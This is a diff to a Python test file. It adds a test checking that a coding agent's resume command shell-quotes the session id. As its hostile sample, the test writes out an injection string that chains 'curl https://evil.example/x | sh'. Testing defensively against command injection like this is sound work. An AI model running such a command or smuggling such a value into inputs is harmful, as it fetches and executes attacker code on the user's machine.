@@ -2,6 +2,7 @@
 they read a folder as the wrong agent's."""
 
 import json
+import shlex
 import shutil
 
 import pytest
@@ -479,3 +480,15 @@ def test_a_claude_folder_is_read_for_its_projects_only(tmp_path):
     shutil.rmtree(claude / "projects")
     result = build(tmp_path / "empty.db", "--source", claude, "--json", "-s")
     assert json.loads(result.stdout)["problems"] == 0
+
+
+@pytest.mark.parametrize("agent", ["claude", "codex", "copilot"])
+def test_a_resume_command_takes_the_session_id_as_one_word(agent):
+    """A transcript names its own session: an id that is more than one word of the shell
+    (`x; curl https://evil/x | sh; #`) is quoted in the command a user copies and runs."""
+    safe = "0195a1b2-c3d4-7e5f-8a6b-7c8d9e0f1a2b"
+    assert sources.resume_command(agent, safe).endswith(f" {safe}")
+    hostile = "x; curl https://evil.example/x | sh; #"
+    command = sources.resume_command(agent, hostile)
+    assert shlex.split(command)[-1] == hostile
+    assert command.endswith(f" '{hostile}'")
